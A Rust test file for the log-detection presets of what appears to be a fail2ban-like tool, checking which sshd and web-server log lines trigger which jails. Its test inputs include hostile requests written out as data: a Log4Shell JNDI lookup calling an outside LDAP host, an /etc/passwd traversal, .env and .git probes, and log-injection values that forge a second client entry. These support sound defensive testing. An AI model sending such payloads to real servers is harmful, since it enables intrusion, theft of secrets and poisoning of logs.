use std::net::IpAddr;

use couic_detect::{Detector, Verdict};
use couic_settings::Part;

use super::*;
use crate::{config::Config, run::Judge};

/// The configuration of presets; those for any source read combined lines.
fn config(names: &[&str]) -> Config {
    let mut text = format!("presets = {names:?}\n");
    if !names
        .iter()
        .any(|name| get(name).unwrap().contains("\n[source."))
    {
        text += "[source.log]\nstdin = true\nformat = \"combined\"\n";
    }
    let part = Part {
        path: "test".into(),
        text,
    };
    Config::of(&[part]).unwrap_or_else(|e| panic!("{names:?}: {e}"))
}

fn verdicts(preset: &str, line: &str) -> Vec<Verdict> {
    let config = config(&[preset]);
    let detector = Detector::new(config.rules().unwrap(), 1);
    let source = &config.sources[0];
    let mut format = source.format.clone();
    let Ok(event) = format.parse(line.as_bytes()) else {
        return Vec::new();
    };
    let client = Judge::of(source, None).unwrap().client(&event);
    detector.explain(detector.source(&source.name).unwrap(), &event, client)
}

/// The jails of which a line is a hit, and of whom.
fn hits(preset: &str, line: &str) -> Vec<(String, Option<IpAddr>)> {
    let hits = verdicts(preset, line)
        .into_iter()
        .filter(|verdict| verdict.hit);
    hits.map(|verdict| (verdict.jail.to_string(), verdict.addr))
        .collect()
}

#[track_caller]
fn check(preset: &str, line: &str, expected: &[&str]) {
    let found = hits(preset, line);
    let jails: Vec<&str> = found.iter().map(|(jail, _)| jail.as_str()).collect();
    assert_eq!(
        jails,
        expected,
        "{preset}: {line}\n{:#?}",
        verdicts(preset, line)
    );
    // Whatever a client writes, its own address is the only one.
    for (jail, addr) in &found {
        assert_eq!(
            addr.unwrap(),
            "192.0.2.1".parse::<IpAddr>().unwrap(),
            "{jail}: {line}"
        );
    }
}

/// A request as nginx and Apache log it.
fn request(method: &str, target: &str, status: u16, agent: &str) -> String {
    format!(
        "192.0.2.1 - - [01/Dec/2026:06:25:01 +0000] \"{method} {target} HTTP/1.1\" {status} 162 \"-\" \"{agent}\""
    )
}

#[test]
fn every_preset_is_valid_alone_and_with_all_others() {
    for name in NAMES {
        config(&[name]);
        assert!(purpose(name).len() > 20, "{name}: {}", purpose(name));
        let text = get(name).unwrap();
        assert!(text.starts_with(&format!("# {name}: ")), "{name}");
        assert!(text.lines().all(|line| line.len() <= 124), "{name}");
    }
    let all = config(NAMES);
    assert!(all.detect.jails.len() > 20);
    assert!(get("none").is_none());
}

#[test]
fn presets_have_no_warnings_about_their_regexes() {
    for name in NAMES {
        let warnings = config(&[name]).rules().unwrap().warnings().to_vec();
        assert!(warnings.is_empty(), "{name}: {warnings:?}");
    }
}

#[test]
fn sshd_counts_failures_and_names_but_no_success() {
    for preset in ["sshd", "sshd-file"] {
        let head = if preset == "sshd" {
            ""
        } else {
            "Dec  1 06:25:01 host sshd[12]: "
        };
        for (line, expected) in [
            (
                "Failed password for root from 192.0.2.1 port 4022 ssh2",
                &["sshd", "sshd-users"][..],
            ),
            (
                "Failed password for invalid user a from 192.0.2.1 port 4022 ssh2",
                &["sshd", "sshd-users"],
            ),
            // The user name is the client's.
            (
                "Failed password for invalid user x from 203.0.113.9 port 22 ssh2 from 192.0.2.1 port 4022 ssh2",
                &["sshd", "sshd-users"],
            ),
            (
                "Invalid user root from 203.0.113.9 port 1 from 192.0.2.1 port 4022",
                &[],
            ),
            (
                "Connection closed by 192.0.2.1 port 4022 [preauth]",
                &["sshd-probe"],
            ),
            (
                "Accepted publickey for deploy from 192.0.2.1 port 4022 ssh2: ED25519 SHA256:abc",
                &[],
            ),
            ("Server listening on 0.0.0.0 port 22.", &[]),
        ] {
            let line = format!("{head}{line}");
            // One attempt is several lines; which of them counts is the format's matter, that nobody else is hit is ours.
            if line.contains("Invalid user") {
                let found = hits(preset, &line);
                assert!(
                    found
                        .iter()
                        .all(|(_, addr)| *addr == Some([192, 0, 2, 1].into())),
                    "{line}: {found:?}"
                );
            } else {
                check(preset, &line, expected);
            }
        }
    }
    check(
        "sshd-file",
        "Dec  1 06:25:01 host CRON[12]: Failed password for root from 192.0.2.1 port 4022 ssh2",
        &[],
    );
}

#[test]
fn servers_of_the_combined_format_see_logins_scans_and_limits() {
    for preset in ["nginx", "apache"] {
        let jail = |name: &str| format!("{preset}-{name}");
        let (auth, login, scan, limited) =
            (jail("auth"), jail("login"), jail("scan"), jail("limited"));
        for (line, expected) in [
            (request("GET", "/private/", 401, "x"), &[auth.as_str()][..]),
            (request("POST", "/login", 200, "x"), &[&login]),
            (request("POST", "/admin/login/?next=/", 302, "x"), &[&login]),
            (request("GET", "/login", 200, "x"), &[]),
            (request("GET", "/x/%2e%2e/nothing", 404, "x"), &[&scan]),
            (request("GET", "/missing.PNG?v=2", 404, "x"), &[]),
            (request("GET", "/style.css", 404, "x"), &[]),
            (request("GET", "/api", 429, "x"), &[&limited]),
            (request("GET", "/", 200, "x"), &[]),
            // What a client writes into path, referer and agent.
            (
                request(
                    "GET",
                    r"/\x22 404 203.0.113.9 - - [01/Dec/2026:06:25:01 +0000] \x22POST /login",
                    200,
                    "x",
                ),
                &[],
            ),
            (
                request(
                    "GET",
                    "/",
                    200,
                    r"x\x22 203.0.113.9 - - \x22GET /x HTTP/1.1\x22 404",
                ),
                &[],
            ),
            (
                request(
                    "GET",
                    "/%0a203.0.113.9 - - [01/Dec/2026:06:25:01 +0000] ",
                    404,
                    "x",
                ),
                &[&scan],
            ),
        ] {
            check(preset, &line, expected);
        }
    }
}

#[test]
fn haproxy_sees_what_it_answered() {
    let line = |status: u16, request: &str| {
        format!(
            "Dec  1 06:25:01 lb haproxy[7]: 192.0.2.1:33317 [01/Dec/2026:06:25:01.655] http-in static/srv1 10/0/30/69/109 {status} 2750 - - ---- 1/1/1/1/0 0/0 \"{request}\""
        )
    };
    check("haproxy", &line(404, "GET /x HTTP/1.1"), &["haproxy-scan"]);
    check("haproxy", &line(401, "GET /x HTTP/1.1"), &["haproxy-auth"]);
    check(
        "haproxy",
        &line(200, "POST /login HTTP/1.1"),
        &["haproxy-login"],
    );
    check("haproxy", &line(200, "GET / HTTP/1.1"), &[]);
    check(
        "haproxy",
        &line(200, "GET /x\\x22_404_203.0.113.9:1 HTTP/1.1"),
        &[],
    );
}

#[test]
fn json_logs_of_caddy_and_traefik_are_read() {
    let caddy = |method: &str, uri: &str, status: u16| {
        format!(
            r#"{{"level":"info","ts":1796106301.655,"logger":"http.log.access","msg":"handled request","request":{{"remote_ip":"192.0.2.1","remote_port":"1","client_ip":"192.0.2.1","proto":"HTTP/2.0","method":"{method}","host":"example.org","uri":"{uri}","headers":{{"User-Agent":["x\"remote_ip\":\"203.0.113.9"]}}}},"status":{status},"size":1}}"#
        )
    };
    check("caddy", &caddy("GET", "/x", 404), &["caddy-scan"]);
    check("caddy", &caddy("POST", "/login", 200), &["caddy-login"]);
    check("caddy", &caddy("GET", "/", 200), &[]);
    let traefik = |method: &str, path: &str, status: u16| {
        format!(
            r#"{{"ClientAddr":"192.0.2.1:33317","ClientHost":"192.0.2.1","DownstreamStatus":{status},"RequestHost":"example.org","RequestMethod":"{method}","RequestPath":"{path}","RequestProtocol":"HTTP/1.1","time":"2026-12-01T06:25:01Z","request_User-Agent":"x\",\"ClientHost\":\"203.0.113.9"}}"#
        )
    };
    check("traefik", &traefik("GET", "/x", 404), &["traefik-scan"]);
    check("traefik", &traefik("GET", "/x", 429), &["traefik-limited"]);
    check("traefik", &traefik("GET", "/", 200), &[]);
}

#[test]
fn scanners_ask_for_what_nobody_has() {
    for (line, expected) in [
        (request("GET", "/.env", 404, "x"), &["scanner-paths"][..]),
        (request("GET", "/app/.GIT/config", 403, "x"), &["scanner-paths"]),
        (request("GET", "/%2eenv", 404, "x"), &["scanner-paths"]),
        (request("GET", "/phpMyAdmin/index.php", 404, "x"), &["scanner-paths"]),
        (request("GET", "/cgi-bin/luci", 404, "x"), &["scanner-paths"]),
        // Who has it, has it.
        (request("GET", "/phpmyadmin/index.php", 200, "x"), &[]),
        (request("GET", "/?q=${jndi:ldap://203.0.113.9/a}", 200, "x"), &["scanner-exploits"]),
        (request("GET", "/?f=../../etc/passwd", 200, "x"), &["scanner-exploits"]),
        (request("GET", "/", 200, "sqlmap/1.8#stable (https://sqlmap.org)"), &["scanner-agents"]),
        (request("GET", "/environment", 404, "x"), &[]),
        (request("GET", "/", 200, "Mozilla/5.0"), &[]),
        // A referer is no request.
        (
            "192.0.2.1 - - [01/Dec/2026:06:25:01 +0000] \"GET / HTTP/1.1\" 404 1 \"https://example.org/.env\" \"x\"".to_owned(),
            &[],
        ),
    ] {
        check("scanners", &line, expected);
    }
}

#[test]
fn wordpress_counts_failed_logins_and_searches_for_users() {
    for (line, expected) in [
        (
            request("POST", "/wp-login.php", 200, "x"),
            &["wp-login"][..],
        ),
        (
            request("POST", "/blog//wp-login.php", 200, "x"),
            &["wp-login"],
        ),
        (request("POST", "/wp-login.php", 302, "x"), &[]),
        (request("GET", "/wp-login.php", 200, "x"), &[]),
        (request("POST", "/xmlrpc.php", 200, "x"), &["wp-xmlrpc"]),
        (request("GET", "/?author=1", 301, "x"), &["wp-users"]),
        (
            request("GET", "/wp-json/wp/v2/users", 401, "x"),
            &["wp-users"],
        ),
        (request("GET", "/wp-json/wp/v2/users", 200, "x"), &[]),
        (request("GET", "/?s=coauthor=1", 301, "x"), &[]),
        (
            request("GET", "/wp-content/plugins/old/readme.txt", 404, "x"),
            &["wp-plugins"],
        ),
        (
            request("GET", "/wp-content/plugins/old/readme.txt", 200, "x"),
            &[],
        ),
    ] {
        check("wordpress", &line, expected);
    }
}

#[test]
fn floods_are_only_told_at_first() {
    let config = config(&["http-flood"]);
    assert!(config.detect.jails.iter().all(|jail| jail.shadow));
    check("http-flood", &request("GET", "/", 200, "x"), &["flood"]);
    check(
        "http-flood",
        &request("POST", "/", 503, "x"),
        &["flood", "flood-errors", "flood-write"],
    );
}
